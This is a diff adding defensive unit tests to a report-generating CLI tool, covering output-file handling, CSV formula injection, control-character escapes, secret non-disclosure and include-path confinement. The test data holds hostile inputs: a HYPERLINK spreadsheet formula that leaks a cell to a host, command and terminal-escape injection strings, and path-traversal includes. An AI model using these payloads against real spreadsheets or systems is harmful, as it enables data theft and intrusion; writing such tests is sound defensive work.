@@ -268,5 +268,144 @@ class Smaller(Hostile):
         self.assertIn(b"past the end", err)
 
 
+class Output(Hostile):
+    def setUp(self):
+        super().setUp()
+        self.scn = self.write("s.yaml", scenario())
+
+    def test_regenerated_report_keeps_its_mode(self):
+        out = os.path.join(self.dir, "r.txt")
+        self.accepted(["run", self.scn, "-o", out])
+        os.chmod(out, 0o600)
+        self.accepted(["run", self.scn, "--format", "csv", "-o", out])
+        self.assertEqual(os.stat(out).st_mode & 0o777, 0o600)
+        self.assertEqual(sorted(os.listdir(self.dir)), ["r.txt", "s.yaml"])
+
+    def test_a_link_is_followed_and_a_hard_link_kept(self):
+        out = os.path.join(self.dir, "r.txt")
+        self.accepted(["run", self.scn, "-o", out])
+        os.symlink("r.txt", os.path.join(self.dir, "link.txt"))
+        os.link(out, os.path.join(self.dir, "hard.txt"))
+        self.accepted(["run", self.scn, "--format", "json", "-o", os.path.join(self.dir, "link.txt")])
+        self.assertTrue(os.path.islink(os.path.join(self.dir, "link.txt")))
+        with open(os.path.join(self.dir, "hard.txt")) as f:
+            self.assertTrue(f.read().startswith("{"))  # the other name sees the new report
+        self.assertEqual(os.stat(out).st_nlink, 2)
+
+    def test_devices_fifos_and_dash_are_written_in_place(self):
+        fifo = os.path.join(self.dir, "fifo")
+        os.mkfifo(fifo)
+        reader = subprocess.Popen(["cat", fifo], stdout=subprocess.PIPE)
+        self.accepted(["run", self.scn, "--format", "csv", "-o", fifo])
+        data = reader.communicate(timeout=60)[0]
+        self.assertIn(b"projection", data)
+        self.assertTrue(os.path.exists(fifo) and not os.path.isfile(fifo))
+        link = os.path.join(self.dir, "null")
+        os.symlink("/dev/null", link)
+        self.accepted(["run", self.scn, "-o", link])
+        self.assertFalse(os.path.isfile("/dev/null"))
+        out = self.accepted(["run", self.scn, "--format", "json", "-o", "-"])
+        self.assertTrue(out.startswith("{"))
+        self.assertFalse(os.path.exists(os.path.join(self.dir, "-")))
+
+    def test_a_240_byte_name(self):
+        name = "r" * 236 + ".txt"
+        self.accepted(["run", self.scn, "-o", name])
+        self.assertTrue(os.path.isfile(os.path.join(self.dir, name)))
+        self.accepted(["run", self.scn, "--format", "xlsx", "-o", "x" * 235 + ".xlsx"])
+
+    def test_output_onto_an_input_is_refused(self):
+        self.write("inc.yaml", SCALE)
+        main = self.write("m.yaml", scenario(head="s75: 1\nname: H\nbase_year: 2025\nyears: 3\n"
+                                             "include: inc.yaml\n", scale=False))
+        self.write("pf.yaml", "s75: 1\nname: PF\nbase_year: 2025\nyears: 3\npools:\n"
+                   "  - {id: pool-a, scenario: m.yaml}\n")
+        for cmd, target in (("run", "m.yaml"), ("run", "inc.yaml"), ("simulate", "m.yaml")):
+            before = open(os.path.join(self.dir, target)).read()
+            self.refused([cmd, "m.yaml", "-o", target], "overwrite a file the scenario reads", where=False)
+            self.assertEqual(before, open(os.path.join(self.dir, target)).read())
+        os.symlink("m.yaml", os.path.join(self.dir, "alias.yaml"))
+        self.refused(["run", "pf.yaml", "-o", "alias.yaml"], "overwrite", where=False)
+        self.refused(["compare", "m.yaml", "pf.yaml", "-o", "inc.yaml"], "overwrite", where=False)
+
+    def test_no_library_line_on_a_failed_workbook(self):
+        code, out, err = self.s75("run", self.scn, "--format", "xlsx", "-o",
+                                  os.path.join(self.dir, "missing", "x.xlsx"))
+        self.assertEqual(code, 1)
+        self.assertNotIn(b"[ERROR]", err)
+
+
+class Injection(Hostile):
+    def test_csv_cells_are_never_formulas(self):
+        for name in ('=HYPERLINK("http://x?leak="&B2,"Open")', "+1+cmd", "-2+3", "@SUM(A1)"):
+            with self.subTest(name):
+                text = scenario().replace("role: Nurse", "role: '%s'" % name.replace("'", "''"))
+                path = self.write("c.yaml", text)
+                out = self.accepted(["run", path, "--format", "csv"])
+                for row in csv.reader(io.StringIO(out)):
+                    for cell in row:
+                        self.assertFalse(cell[:1] in ("=", "@", "\t", "\r") or
+                                         (cell[:1] in "+-" and len(cell) > 1 and not
+                                          re.fullmatch(r"[-+]?[0-9.eE+-]+", cell)), cell)
+                self.assertIn("'" + name + " (band 6)", out.replace('""', '"'))
+
+    def test_control_characters_are_refused_in_names_and_escaped_in_messages(self):
+        for bad in ("\x1b]0;pwned\x07", "a\nforged line", "\x1b[2J", "x\u0085y", "del\x7f"):
+            with self.subTest(repr(bad)):
+                esc = json.dumps(bad)
+                path = self.write("k.yaml", scenario().replace("name: Rent", "name: %s" % esc))
+                self.refused(["validate", path], "control characters")
+                path = self.write("k.yaml", scenario("risk_share:\n  overspend: {rule: fixed, "
+                                                     "shares: {%s: 1}}\n" % esc))
+                self.refused(["validate", path], "")
+
+    def test_xlsx_strings_keep_a_literal_escape(self):
+        path = self.write("x.yaml", scenario().replace("name: Hostile", "name: a_x0041_b"))
+        self.accepted(["run", path, "--format", "xlsx", "-o", "x.xlsx"])
+        with zipfile.ZipFile(os.path.join(self.dir, "x.xlsx")) as z:
+            texts = z.read("xl/sharedStrings.xml").decode()
+        self.assertIn("a_x005F_x0041_b", texts)
+        self.assertNotIn(">a_x0041_b<", texts)
+
+
+class Disclosure(Hostile):
+    SECRET = "root:$6$SECRETHASH:19000:0:99999:7:::\nalice: SECRET-TOKEN-42\n"
+
+    def test_an_included_file_is_never_quoted(self):
+        self.write("secret", self.SECRET)
+        for head in ("include: secret\n", "include: [secret]\n"):
+            path = self.write("i.yaml", scenario(head="s75: 1\nname: H\nbase_year: 2025\nyears: 3\n" + head,
+                                                 scale=False))
+            text = self.refused(["validate", path], "not an include file")
+            self.assertNotIn("SECRET", text)
+
+    def test_a_pool_file_that_is_no_scenario_is_never_quoted(self):
+        self.write("secret", self.SECRET)
+        path = self.write("pf.yaml", "s75: 1\nname: PF\nbase_year: 2025\nyears: 3\npools:\n"
+                          "  - {id: a, scenario: secret}\n")
+        text = self.refused(["validate", path], "not a scenario file")
+        self.assertNotIn("SECRET", text)
+
+    def test_includes_confined_to_the_folder(self):
+        outside = tempfile.TemporaryDirectory()
+        self.addCleanup(outside.cleanup)
+        with open(os.path.join(outside.name, "scale.yaml"), "w") as f:
+            f.write(SCALE)
+        os.symlink(os.path.join(outside.name, "scale.yaml"), os.path.join(self.dir, "link.yaml"))
+        self.write("sub/inside.yaml", SCALE)
+        for inc, ok in ((os.path.join(outside.name, "scale.yaml"), False), ("link.yaml", False),
+                        ("sub/../../" + os.path.basename(outside.name) + "/scale.yaml", False),
+                        ("sub/inside.yaml", True)):
+            with self.subTest(inc):
+                path = self.write("c.yaml", scenario(head="s75: 1\nname: H\nbase_year: 2025\n"
+                                                     "years: 3\ninclude: %s\n" % inc, scale=False))
+                self.accepted(["validate", path]) if ok else None
+                for cmd in (["validate", "--confine-includes", path], ["run", path, "--confine-includes"]):
+                    if ok:
+                        self.accepted(cmd)
+                    else:
+                        self.refused(cmd, "outside the scenario's folder")
+
+
 if __name__ == "__main__":
     unittest.main(verbosity=2)
